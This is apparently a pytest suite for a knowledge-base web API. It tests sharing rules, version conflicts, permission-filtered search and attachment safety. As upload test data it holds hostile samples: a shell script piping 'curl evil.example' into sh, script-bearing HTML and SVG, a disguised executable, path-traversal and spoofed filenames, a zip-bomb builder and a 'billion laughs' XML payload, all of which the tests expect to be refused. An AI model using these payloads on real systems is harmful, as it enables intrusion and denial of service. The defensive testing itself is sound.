"""The knowledge base through the API: sharing like every record, versions with diffs and
409 on a stale edit, search that never shows or counts what the viewer may not read,
attachments checked by content, and the lessons of a closed project."""

import io
import tempfile
import zipfile
from datetime import date
from pathlib import Path

import docx
import httpx
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from innonet.app import create_app
from innonet.config import Settings
from innonet.knowledge import extract
from innonet.knowledge.models import Attachment
from innonet.sharing.models import AuditEvent
from tests.factories import bearer, make_organisation, make_user
from tests.test_concurrency import live, run_together  # noqa: F401 (fixture)

# A one-page PDF whose text is "Chitosan barrier coating for paper cups".
PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
       b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
       b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 100]/Contents 4 0 R"
       b"/Resources<</Font<</F1 5 0 R>>>>>>endobj\n"
       b"4 0 obj<</Length 62>>stream\nBT /F1 12 Tf 10 50 Td (Chitosan barrier coating for paper cups) Tj ET\n"
       b"endstream endobj\n5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj\n"
       b"trailer<</Root 1 0 R>>\n%%EOF\n")


@pytest.fixture
def kb(session):
    orgs = {n: make_organisation(session, name=n) for n in ("Owner", "Partner", "Outsider")}
    users = {"owner": make_user(session, orgs["Owner"], name="Olga"), "partner": make_user(session, orgs["Partner"]),
             "outsider": make_user(session, orgs["Outsider"]),
             "guest": make_user(session, orgs["Owner"], role="guest")}
    headers = {k: bearer(session, u) for k, u in users.items()}
    session.commit()
    return {"orgs": orgs, "h": headers}


def _item(client, kb, **changes):
    body = {"organisation": kb["orgs"]["Owner"].external_id, "kind": "how_to", "title": "Coating paper cups",
            "body": "Use a **chitosan** layer.\nDry at 80 °C.", "tags": ["Coating"]} | changes
    made = client.post("/api/v1/knowledge", json=body, headers=kb["h"]["owner"])
    assert made.status_code == 201, made.text
    return made.json()


def test_an_item_is_shared_like_every_record_and_its_reads_are_audited(client, session, kb):
    item = _item(client, kb, visibility="partners", shared_with=[kb["orgs"]["Partner"].external_id])
    url = f"/api/v1/knowledge/{item['id']}"
    assert client.get(url, headers=kb["h"]["partner"]).json()["title"] == "Coating paper cups"
    for who in ("outsider", "guest"):
        assert client.get(url, headers=kb["h"][who]).status_code == 404
    assert client.get(url).status_code in (401, 404)
    reads = session.scalars(select(AuditEvent).where(AuditEvent.item_type == "knowledge_item",
                                                     AuditEvent.action == "read")).all()
    assert len(reads) == 1 and reads[0].item_id == item["id"]
    assert client.patch(url, json={"version": 1, "title": "Mine"}, headers=kb["h"]["partner"]).status_code == 403


def test_a_stale_edit_gets_409_with_both_texts_and_versions_show_the_diff(client, kb):
    item = _item(client, kb)
    url = f"/api/v1/knowledge/{item['id']}"
    first = client.patch(url, json={"version": 1, "body": "Use a **chitosan** layer.\nDry at 90 °C."},
                         headers=kb["h"]["owner"])
    assert first.status_code == 200 and first.json()["version"] == 2
    stale = client.patch(url, json={"version": 1, "body": "Use wax."}, headers=kb["h"]["owner"])
    assert stale.status_code == 409
    conflict = stale.json()["error"]["conflict"]
    assert conflict["stored"]["body"].endswith("90 °C.") and conflict["stored"]["version"] == 2
    assert conflict["yours"]["body"] == "Use wax." and conflict["yours"]["version"] == 1
    assert client.get(url, headers=kb["h"]["owner"]).json()["body"].endswith("90 °C.")
    history = client.get(f"{url}/versions", headers=kb["h"]["owner"]).json()
    assert [v["version"] for v in history] == [2, 1] and history[0]["edited_by"] == "Olga"
    changes = client.get(f"{url}/diff?old=1&new=2", headers=kb["h"]["owner"]).json()["body"]
    assert {"change": "removed", "text": "Dry at 80 °C."} in changes
    assert {"change": "added", "text": "Dry at 90 °C."} in changes
    assert client.get(f"{url}/diff?old=1&new=7", headers=kb["h"]["owner"]).json()["error"]["problems"][0][
        "field"] == "new"


def test_search_finds_stemmed_words_ranks_and_hides_what_the_viewer_may_not_read(client, kb):
    partner = kb["orgs"]["Partner"].external_id
    shared = _item(client, kb, title="Barrier coatings compared", body="Chitosan against wax coatings.",
                   visibility="partners", shared_with=[partner])
    _item(client, kb, title="Secret coating recipe", body="Our crown jewel: the binder ratio.")
    _item(client, kb, title="Trade fair notes", body="Met a coating supplier.", kind="market_insight",
          visibility="network")
    found = client.get("/api/v1/knowledge?q=coating", headers=kb["h"]["owner"]).json()
    assert found["total"] == 3 and found["hits"][0]["title"] in ("Barrier coatings compared", "Secret coating recipe")
    seen = client.get("/api/v1/knowledge?q=coating", headers=kb["h"]["partner"]).json()
    assert seen["total"] == 2 and {h["title"] for h in seen["hits"]} == {"Barrier coatings compared",
                                                                           "Trade fair notes"}
    assert "Secret" not in str(seen)
    both = client.get("/api/v1/knowledge?q=chitosan+coating", headers=kb["h"]["partner"]).json()
    assert [h["id"] for h in both["hits"]] == [shared["id"]] and "<mark>" not in both["hits"][0]["excerpt"]
    crown = client.get("/api/v1/knowledge?q=binder+ratio", headers=kb["h"]["partner"]).json()
    assert crown == {"query": "binder ratio", "total": 0, "capped": False, "hits": []}
    insight = client.get("/api/v1/knowledge?q=coating&kind=market_insight", headers=kb["h"]["outsider"]).json()
    assert [h["title"] for h in insight["hits"]] == ["Trade fair notes"]
    hostile = client.get('/api/v1/knowledge?q=" OR title:* NEAR(', headers=kb["h"]["owner"])
    assert hostile.status_code == 200
    assert client.get("/api/v1/knowledge?q=coating&tag=coating", headers=kb["h"]["partner"]).json()["total"] == 2


def test_attachments_are_checked_by_content_stored_safely_and_searched(client, session, kb, tmp_path):
    item = _item(client, kb)
    url = f"/api/v1/knowledge/{item['id']}/attachments"
    h = kb["h"]["owner"]
    exe = client.post(url, files={"file": ("report.pdf", b"MZ\x90\x00\x03" + b"\x00" * 200)}, headers=h)
    assert exe.status_code == 422 and "application/x-msdownload" in exe.text
    assert exe.json()["error"]["problems"][0]["field"] == "file"
    pdf = client.post(url, files={"file": ("../../etc/Trial report.pdf", PDF, "text/html")}, headers=h)
    assert pdf.status_code == 201, pdf.text
    assert pdf.json()["filename"] == "Trial report.pdf" and pdf.json()["content_type"] == "application/pdf"
    document = docx.Document()
    document.add_paragraph("Grease resistance measured with the kit test.")
    buffer = io.BytesIO()
    document.save(buffer)
    word = client.post(url, files={"file": ("C:\\Users\\x\\kit.docx", buffer.getvalue())}, headers=h)
    assert word.status_code == 201 and word.json()["filename"] == "kit.docx"
    assert client.post(url, files={"file": ("x.txt", b"hi")}, headers=kb["h"]["partner"]).status_code == 404
    # The text job ran (the test queue runs jobs at once): both files' words are found.
    for words in ("paper cups", "kit test"):
        hits = client.get(f"/api/v1/knowledge?q={words}", headers=h).json()["hits"]
        assert [x["id"] for x in hits] == [item["id"]], words
    got = client.get(pdf.json()["url"].replace("/knowledge", "/api/v1/knowledge"), headers=h)
    assert got.content == PDF and got.headers["x-content-type-options"] == "nosniff"
    assert got.headers["content-disposition"] == "attachment; filename*=UTF-8''Trial%20report.pdf"
    stored = [p for p in tmp_path.rglob("*") if p.is_file() and p.suffix == "" and len(p.name) == 32]
    assert len(stored) == 2
    assert client.delete(f"/api/v1/knowledge/{item['id']}", headers=h).status_code == 204
    assert [p for p in tmp_path.rglob("*") if p.is_file() and len(p.name) == 32] == []
    assert session.scalars(select(Attachment)).all() == []


def test_an_upload_over_the_limit_is_refused_with_the_limit(sessions, session, kb, tmp_path):
    app = create_app(Settings(database_url="sqlite://", secret_key="t", data_dir=str(tmp_path),
                              max_attachment_bytes=1000), sessions=sessions)
    with TestClient(app) as client:
        item = _item(client, kb)
        url = f"/api/v1/knowledge/{item['id']}/attachments"
        for size in (2000, 200_000):  # past the file's limit; past the request's too
            refused = client.post(url, files={"file": ("big.txt", b"a" * size)}, headers=kb["h"]["owner"])
            assert refused.status_code == 413 and "1,000 bytes" in refused.json()["error"]["message"], size
    assert [p for p in tmp_path.rglob("*") if p.is_file() and "upload" in p.name] == []


def test_the_lessons_of_a_closed_project_reach_its_parties_and_no_one_else(client, session, kb):
    owner, partner = kb["orgs"]["Owner"].external_id, kb["orgs"]["Partner"].external_id
    admin = bearer(session, make_user(session, kb["orgs"]["Owner"], role="admin"))
    session.commit()
    project = client.post("/api/v1/joint-projects", headers=admin, json={
        "organisation": owner, "title": "Cup pilot", "start_date": str(date.today()),
        "parties": [{"organisation": partner}]}).json()
    closed = client.post(f"/api/v1/joint-projects/{project['id']}/close", headers=admin, json={
        "outcome": "succeeded", "lessons": "Agree sample sizes before the first trial.\n\nOne contact per party."})
    assert closed.status_code == 200
    for who, count in (("owner", 2), ("partner", 2), ("outsider", 0), ("guest", 0)):
        found = client.get(f"/api/v1/knowledge?project={project['id']}&kind=lesson", headers=kb["h"][who]).json()
        assert found["total"] == count, who
    lesson = client.get("/api/v1/knowledge?q=sample+sizes", headers=kb["h"]["partner"]).json()["hits"][0]
    view = client.get(f"/api/v1/knowledge/{lesson['id']}", headers=kb["h"]["partner"]).json()
    assert view["kind"] == "lesson"
    assert view["links"] == [{"type": "project", "id": str(project["id"]), "title": "Cup pilot",
                              "url": f"/joint-projects/{project['id']}"}]


def test_ten_edits_of_one_version_at_once_save_one_and_refuse_nine(live):  # noqa: F811
    """On a running server (SQLite and PostgreSQL): the version check is one compare-and-set,
    so exactly one edit wins and every other gets 409 with both texts; nothing is lost."""
    writer = live.users[2]  # a member of the first organisation
    with httpx.Client(base_url=live.url, timeout=60) as http:
        headers = live.token(writer)
        made = http.post("/api/v1/knowledge", headers=headers, json={"organisation": live.orgs[0], "title": "Race"})
        assert made.status_code == 201, made.text
        url = f"/api/v1/knowledge/{made.json()['id']}"
        answers = run_together([lambda n=n: http.patch(url, headers=headers, json={"version": 1, "body": f"Edit {n}"})
                                for n in range(10)])
        assert sorted(a.status_code for a in answers) == [200] + [409] * 9
        winner = next(a.json()["body"] for a in answers if a.status_code == 200)
        for refused in (a for a in answers if a.status_code == 409):
            conflict = refused.json()["error"]["conflict"]
            assert conflict["stored"]["body"] == winner and conflict["yours"]["body"].startswith("Edit ")
        history = http.get(f"{url}/versions", headers=headers).json()
        assert [v["version"] for v in history] == [2, 1] and history[0]["body"] == winner


def test_html_svg_and_scripts_are_no_plain_text_and_names_end_as_their_type(client, kb, tmp_path):
    item = _item(client, kb)
    url = f"/api/v1/knowledge/{item['id']}/attachments"
    h = kb["h"]["owner"]
    for name, content, found in (("report.pdf", b"<html><body><script>fetch('/x')</script></body></html>", "HTML"),
                                 ("logo.txt", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "SVG"),
                                 ("notes.txt", b"#!/bin/sh\ncurl evil.example | sh\n", "script")):
        refused = client.post(url, files={"file": (name, content)}, headers=h)
        assert refused.status_code == 422 and found in refused.text, (name, refused.text)
        assert refused.json()["error"]["problems"][0]["field"] == "file"
    for name in ("report.pdf", "page.html", "run.bat", "setup.hta"):
        refused = client.post(url, files={"file": (name, b"Plain meeting notes.")}, headers=h)
        assert refused.status_code == 422 and "name it .txt" in refused.text, (name, refused.text)
    saved = client.post(url, files={"file": ("\u202eCON\x85", b"Plain meeting notes.")}, headers=h)
    assert saved.status_code == 201 and saved.json()["filename"] == "_CON.txt", saved.text
    # Nothing of the refused uploads was kept.
    assert len([p for p in tmp_path.rglob("*") if p.is_file() and len(p.name) == 32]) == 1


def _word_bomb(unpacked: int) -> bytes:
    """A real Word file whose document.xml is ``unpacked`` bytes of one repeated paragraph."""
    honest = io.BytesIO()
    docx.Document().save(honest)
    paragraph = b"<w:p><w:r><w:t>" + b"A" * 60 + b"</w:t></w:r></w:p>"
    xml = (b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
           + paragraph * (unpacked // len(paragraph)) + b"</w:body></w:document>")
    out = io.BytesIO()
    with zipfile.ZipFile(honest) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        for info in source.infolist():
            bomb.writestr(info.filename, xml if info.filename == "word/document.xml" else source.read(info))
    return out.getvalue()


@pytest.mark.parametrize("unpacked", [10_500_000, 84_000_000])
def test_a_word_file_that_unpacks_to_megabytes_is_kept_without_its_text_and_says_so(client, kb, unpacked):
    item = _item(client, kb)
    h = kb["h"]["owner"]
    bomb = _word_bomb(unpacked)
    assert len(bomb) < unpacked / 30
    saved = client.post(f"/api/v1/knowledge/{item['id']}/attachments", files={"file": ("bomb.docx", bomb)},
                        headers=h)
    assert saved.status_code == 201, saved.text
    found = client.get(f"/api/v1/knowledge/{item['id']}", headers=h).json()["attachments"]
    assert [a["text_state"] for a in found] == ["too_large"]
    with pytest.raises(extract.TooLarge):
        extract.text_of(_written(bomb), "application/vnd.openxmlformats-officedocument.wordprocessingml.document")


def _written(content: bytes) -> Path:
    path = Path(tempfile.mkdtemp()) / "file.docx"
    path.write_bytes(content)
    return path


def test_office_xml_is_read_as_a_stream_without_entities():
    """An entity defined in the document (a "billion laughs") is never expanded."""
    laughs = (b'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
              b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
              b"<w:p><w:r><w:t>Coating &b; trial</w:t></w:r></w:p></w:body></w:document>")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", laughs)
    text = extract.text_of(_written(out.getvalue()),
                           "application/vnd.openxmlformats-officedocument.wordprocessingml.document")
    assert "haha" not in (text or "") and "Coating" in text
